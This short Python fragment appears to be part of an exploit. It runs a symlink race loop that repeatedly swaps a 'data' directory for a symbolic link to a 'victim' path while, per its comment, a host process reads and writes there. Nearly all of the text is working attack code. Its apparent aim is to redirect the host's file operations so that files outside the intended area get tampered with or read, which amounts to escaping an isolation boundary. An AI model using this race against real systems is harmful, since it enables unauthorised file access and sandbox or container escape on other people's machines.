# Swaps a directory for a link to the host's while the host reads and writes there.
os.makedirs("data", exist_ok=True)
for _ in range(3000):
    with suppress(OSError):
        os.rename("data", "kept"); os.symlink(stage["victim"], "data")
        os.unlink("data"); os.rename("kept", "data")
